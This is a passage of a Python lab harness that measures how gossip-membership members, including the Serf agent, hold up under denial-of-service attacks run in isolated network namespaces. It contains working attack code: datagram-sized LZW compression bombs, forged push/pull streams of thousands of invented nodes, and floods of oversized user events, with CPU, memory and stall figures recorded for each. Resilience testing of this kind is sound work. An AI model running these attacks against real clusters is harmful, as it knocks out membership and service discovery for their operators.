        out.update({f"{phase}_datagrams": len(datagrams), f"{phase}_datagram_bytes": max(map(len, datagrams)),
                    "events": len(events), "event_bytes": len(events[0]) - 1,
                    "carried_bytes": sum(len(e) - 1 for e in events)})
        if kind != "agent":
            stats = victim.stats() or {}
            out.update({f"{phase}_victim_{k}": stats.get(k) for k in (
                "events_queued", "events_rebroadcast", "serf_messages", "serf_messages_bad")})
        mine = payload + (f"-{n}" if n else "")
        if kind == "agent":
            victim.user_event("probe", mine)
        else:
            victim.user_event()
        wait_until(lambda: all(p.got_event(mine) for p in peers), sizes["event_wait"], 0.1)
        out[f"{phase}_peers_got_event"] = sum(p.got_event(mine) for p in peers)
        if kind != "agent":
            stats = victim.stats() or {}
            out[f"{phase}_victim_serf_broadcasts_dropped"] = stats.get("serf_broadcasts_dropped")
    out["event_wait_s"] = sizes["event_wait"]
    cursors = [p.cursor() for p in peers]
    leave_at = time.monotonic()
    victim.leave()

    def first_mark(p, c):
        return next((k for k, _t in p.marks("victim", c) if k in ("left", "failed")), None)
    wait_until(lambda: all(first_mark(p, c) for p, c in zip(peers, cursors)), sizes["leave_wait"], 0.1)
    marks = [first_mark(p, c) or "none" for p, c in zip(peers, cursors)]
    out["leave_marks"] = {k: marks.count(k) for k in sorted(set(marks))}
    out["leave_seen_s"] = round(time.monotonic() - leave_at, 2)
    return out


_BOMB = {}


def bomb(size):
    """A compress message of ``size`` bytes of one letter: LZW at its densest."""
    from mcastmember.gossip.memberlist import framing
    if size not in _BOMB:
        _BOMB[size] = framing.compress_message(b"A" * size)
        if len(_BOMB[size]) > 65_507:
            raise ValueError(f"a bomb of {size} bytes does not fit a datagram")
    return _BOMB[size]


_PUSH = {}


def invented_push_pull(lab, k, count):
    """A push/pull stream (not a join) of ``count`` invented alive nodes, all at the attacker's address."""
    from mcastmember.gossip.memberlist import framing
    from mcastmember.gossip.memberlist import messages
    from mcastmember.gossip.memberlist.layout import NodeState
    from mcastmember.gossip.serf import messages as serf_messages
    key = (k, count)
    if key not in _PUSH:
        here = socket.inet_aton(lab.attacker_ip)
        state = serf_messages.encode(serf_messages.SerfPushPull(ltime=1, event_ltime=1, query_ltime=1))
        nodes = [messages.PushNodeState(name=f"{FAKE}p{k}-{i:06d}", addr=here, port=10_000 + i % 50_000,
                                        incarnation=1, state=NodeState.ALIVE, vsn=VSN) for i in range(count)]
        _PUSH[key] = framing.encode_stream(messages.encode_push_pull(messages.PushPull(nodes=nodes,
                                                                                      user_state=state)))
    return _PUSH[key]


def attack_cpu_starve(lab, kind):
    sizes = lab.sizes
    data = bomb(sizes["bomb_bytes"])
    pushes = [invented_push_pull(lab, k, sizes["pushpull_nodes"]) for k in range(sizes["pushpulls"])]
    victim, peers = lab.cluster(kind)
    prober = lab.prober("victim")
    sock = lab.udp()
    time.sleep(1.0)
    out = {"bomb_datagram_bytes": len(data), "bomb_inflates_to": sizes["bomb_bytes"],
           "pushpull_bytes": len(pushes[0])}
    # LZW bombs
    cursors = [p.cursor() for p in peers]
    cpu0, start = cpu_ticks(victim.pid), time.monotonic()
    count = int(sizes["bombs_per_s"] * sizes["bomb_seconds"])
    sent, errors = send_paced(sock, [data] * count, (lab.victim_ip, PORT), sizes["bombs_per_s"])
    last = time.monotonic()
    time.sleep(3.0)
    cpu1, end = cpu_ticks(victim.pid), time.monotonic()
    seen = probe_window(prober, start, end)
    # the push/pulls come once the victim answers again (what it still had to inflate done)
    recovered = wait_until(lambda: answering_again(prober, last), sizes["recover_wait"], 0.1)
    out["bombs_recovered_s"] = round(recovered - last, 1) if recovered else f">{round(time.monotonic() - last)}"
    out.update(bombs_sent=sent, bomb_send_errors=errors, bombs_failed_marks=failed_marks(peers, cursors),
               bombs_max_rtt_s=seen["max_rtt_s"], bombs_lost=seen["lost"], bombs_pings=seen["pings"],
               bombs_stall_s=seen["stall_s"],
               bombs_victim_cpu_s=round((cpu1 - cpu0) / CLK_TCK, 2) if cpu1 is not None else None)
    # push/pulls of invented nodes, all at once
    cursors = [p.cursor() for p in peers]
    cpu0, start = cpu_ticks(victim.pid), time.monotonic()
    socks = lab.tcp_sockets(len(pushes))
    results = [None] * len(pushes)

    def one(n):
        results[n] = push_pull_exchange(socks[n], (lab.victim_ip, PORT), pushes[n], 30.0)
    threads = [threading.Thread(target=one, args=(n,), daemon=True) for n in range(len(pushes))]
    for t in threads:
        t.start()
    for t in threads:
        t.join(35.0)
    answered = time.monotonic()
    time.sleep(5.0)
    cpu1, end = cpu_ticks(victim.pid), time.monotonic()
    seen = probe_window(prober, start, end)
    out.update(pushpulls=len(pushes), pushpull_nodes=sizes["pushpull_nodes"],
               pushpulls_answered=sum(r == "ok" for r in results), pushpull_results=sorted({str(r) for r in results}),
               pushpull_answer_s=round(answered - start, 2),
               pushpull_failed_marks=failed_marks(peers, cursors), pushpull_max_rtt_s=seen["max_rtt_s"],
               pushpull_lost=seen["lost"], pushpull_pings=seen["pings"], pushpull_stall_s=seen["stall_s"],
               pushpull_victim_cpu_s=round((cpu1 - cpu0) / CLK_TCK, 2) if cpu1 is not None else None)
    return out


def attack_event_queue(lab, kind):
    """The brief's 60 KB events, then as many of the largest event a Serf
    member sends (9 KiB of name and payload: for a member that refuses the
    first for its size, whether what waits for its listener is bounded)."""
    from mcastmember.gossip.serf import messages as serf_messages
    from mcastmember.gossip.serf.layout import USER_EVENT_SIZE_LIMIT
    sizes = lab.sizes
    victim, peers = lab.cluster(kind, slow=True)
    sock = lab.udp()
    time.sleep(1.0)
    out = {"slow": "listener 1 s/event" if kind == "threads" else
                   ("events() read 1 s/event" if kind == "asyncio" else "event handler 'sleep 1'")}
    name = "atk-flood"
    for n, (phase, size) in enumerate((("big", sizes["flood_payload"]),
                                       ("largest", USER_EVENT_SIZE_LIMIT - len(name)))):
        before = rss_kb(victim.pid)
        peak = [before or 0]
        stop = threading.Event()

        def sample():
            while not stop.wait(0.2):
                now = rss_kb(victim.pid)
                if now:
                    peak[0] = max(peak[0], now)
        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        payload = b"F" * size
        first = 2000 + n * sizes["flood_events"]

        def datagrams():
            for i in range(sizes["flood_events"]):
                yield user_message(serf_messages.UserEvent(ltime=first + i, name=name, payload=payload))
        start = time.monotonic()
        sent, errors = send_paced(sock, datagrams(), (lab.victim_ip, PORT), sizes["flood_rate"])
        time.sleep(3.0)
        stop.set()
        sampler.join()
        after = rss_kb(victim.pid)
        out.update({f"{phase}_events_sent": sent, f"{phase}_send_errors": errors, f"{phase}_payload_bytes": size,
                    f"{phase}_send_s": round(time.monotonic() - start - 3.0, 2),
                    f"{phase}_rss_before_mb": round(before / 1024, 1) if before else None,
                    f"{phase}_rss_after_mb": round(after / 1024, 1) if after else None,
                    f"{phase}_rss_peak_mb": round(peak[0] / 1024, 1),
                    f"{phase}_rss_growth_mb": round((peak[0] - before) / 1024, 1) if before else None})
        if kind != "agent":
            stats = victim.stats() or {}
            out.update({f"{phase}_{k}": stats.get(k) for k in (
                "attack_user_events", "events_lost", "listener_events_dropped", "stream_events_dropped",
                "events_queued", "datagrams_received")})
    return out


ATTACKS = {"redos": attack_redos, "join_storm": attack_join_storm, "stream_slots": attack_stream_slots,
           "broadcast_pin": attack_broadcast_pin, "cpu_starve": attack_cpu_starve, "event_queue": attack_event_queue}

#: the figures of the printed table, per attack
TABLE = {
    "redos": ("short_stall_s", "short_failed_marks", "long_stall_s", "long_failed_marks"),
    "join_storm": ("victim_cpu_s", "victim_lists", "probe_max_rtt_s", "joiner_join_ok", "joiner_listed",
                   "joiner_listed_s"),
    "stream_slots": ("slowloris_held_open", "slowloris_joins_ok", "flood_connected", "flood_held_open",
                     "flood_joins_ok"),
    "broadcast_pin": ("compressed_peers_got_event", "plain_peers_got_event", "leave_marks", "leave_seen_s"),
    "cpu_starve": ("bombs_victim_cpu_s", "bombs_failed_marks", "bombs_max_rtt_s", "bombs_lost", "bombs_recovered_s",
                   "pushpulls_answered", "pushpull_failed_marks", "pushpull_max_rtt_s", "pushpull_victim_cpu_s"),
    "event_queue": ("big_rss_before_mb", "big_rss_growth_mb", "largest_rss_growth_mb"),
}


# ----------------------------------------------------------------- running them

def git_describe(path):
    try:
        commit = subprocess.run(["git", "-C", str(path), "rev-parse", "HEAD"], capture_output=True, text=True,
                                timeout=10).stdout.strip()
        dirty = subprocess.run(["git", "-C", str(path), "status", "--porcelain", "--untracked-files=no"],
                               capture_output=True, text=True, timeout=10).stdout.split("\n")
        return {"commit": commit, "modified_files": [line[3:] for line in dirty if line.strip()]}
    except (OSError, subprocess.SubprocessError):
        return {"commit": None}


def run(attacks, kinds, impl_path=None, tiny=False, peers=None):
    """Run ``attacks`` against each of ``kinds``: the results, as --json writes them."""
    why = Lan.available()
    if why:
        raise RuntimeError(why)
    if "agent" in kinds and not subprocess.run(["which", "serf"], capture_output=True).returncode == 0:
        raise RuntimeError("serf is not installed (apt-get install serf)")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65_536), hard))
    sizes = TINY if tiny else FULL
    peers = peers if peers is not None else (1 if tiny else 3)
    import mcastmember
    source = pathlib.Path(impl_path) if impl_path else pathlib.Path(mcastmember.__file__).resolve().parent.parent
    results = {"impl_path": str(source), **git_describe(source), "cpus": os.cpu_count(), "peers": peers,
               "tiny": tiny, "started": time.strftime("%Y-%m-%dT%H:%M:%S"), "load_average_start": load_average(),
               "serf": subprocess.run(["serf", "version"], capture_output=True, text=True).stdout.split("\n")[0]
               if "agent" in kinds else None, "attacks": {}}
    began = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="gossip-attacks-") as tmp, Lan(hosts=HOSTS, prefix="gat") as lan:
        lab = Lab(lan, impl_path, pathlib.Path(tmp), sizes, peers)
        try:
            for name in attacks:
                results["attacks"][name] = {}
                for kind in kinds:
                    say(f"{name} against {kind}...")
                    load0, t0 = load_average(), time.monotonic()
                    try:
                        figures = ATTACKS[name](lab, kind)
                    except (RuntimeError, AssertionError, OSError, subprocess.SubprocessError) as exc:
                        figures = {"error": f"{type(exc).__name__}: {exc}"[:500]}
                        victim = next((n for n in lab.nodes if getattr(n, "name", None) == "victim"), None)
                        if isinstance(victim, PyNode) and victim.proc.stderr:
                            figures["victim_stderr"] = victim.proc.stderr[-1500:]
                    finally:
                        victim = next((n for n in lab.nodes if getattr(n, "name", None) == "victim"), None)
                        module = getattr(victim, "info", None)
                        lab.kill_all()
                    if module:
                        figures["member_module"] = module["file"]
                        figures["compiled"] = module["compiled"]
                    figures["seconds"] = round(time.monotonic() - t0, 1)
                    figures["load_average"] = [load0, load_average()]
                    results["attacks"][name][kind] = figures
                    say(f"  {json.dumps(figures)}")
        finally:
            lab.kill_all()
    results["seconds"] = round(time.monotonic() - began, 1)
    results["load_average_end"] = load_average()
    return results


def table(results, kinds):
    rows = [("attack", "figure", *kinds)]
    for name, by_kind in results["attacks"].items():
        keys = TABLE[name]
        if any("error" in f for f in by_kind.values()):
            keys = keys + ("error",)
        for key in keys:
            cells = []
            for kind in kinds:
                value = by_kind.get(kind, {}).get(key, "-")
                cells.append(json.dumps(value) if isinstance(value, (dict, list)) else str(value))
            rows.append((name, key, *cells))
    widths = [max(len(r[i][:60]) for r in rows) for i in range(len(rows[0]))]
    return "\n".join("  ".join(c[:60].ljust(w) for c, w in zip(r, widths)).rstrip() for r in rows)


def interrupted(*_):
    raise KeyboardInterrupt


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--attack", action="append", choices=list(ATTACKS), help="an attack (default: all six)")
    parser.add_argument("--kinds", default=",".join(KINDS), help="victims, of threads,asyncio,agent (default all)")
    parser.add_argument("--json", help="write every figure there")
    parser.add_argument("--impl-path", help="run the Python members from this checkout (first on their PYTHONPATH)")
    parser.add_argument("--peers", type=int, help="healthy peers watching the victim (default 3; --tiny 1)")
    parser.add_argument("--tiny", action="store_true", help="every attack at a tiny scale (the smoke test)")
    parser.add_argument("--member", help=argparse.SUPPRESS)
    parser.add_argument("--probe", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.member:
        member_main(json.loads(args.member))
        return
    if args.probe:
        probe_main(json.loads(args.probe))
        return
    kinds = [k for k in args.kinds.split(",") if k]
    if not set(kinds) <= set(KINDS):
        parser.error(f"--kinds takes {','.join(KINDS)}")
    # a SIGTERM ends the run as Ctrl-C does: processes killed, namespaces removed
    signal.signal(signal.SIGTERM, interrupted)
    try:
        results = run(args.attack or list(ATTACKS), kinds, args.impl_path, args.tiny, args.peers)
    except RuntimeError as exc:
        sys.exit(f"gossip_attacks: {exc}")
    results["table"] = table(results, kinds).splitlines()
    print("\n".join(results["table"]))
    print(f"commit {results['commit']} ({len(results.get('modified_files') or [])} files modified) from "
          f"{results['impl_path']}; {results['seconds']} s; load average {results['load_average_start']} -> "
          f"{results['load_average_end']} on {results['cpus']} CPUs")
    if args.json:
        pathlib.Path(args.json).write_text(json.dumps(results, indent=1) + "\n")


if __name__ == "__main__":
    main()
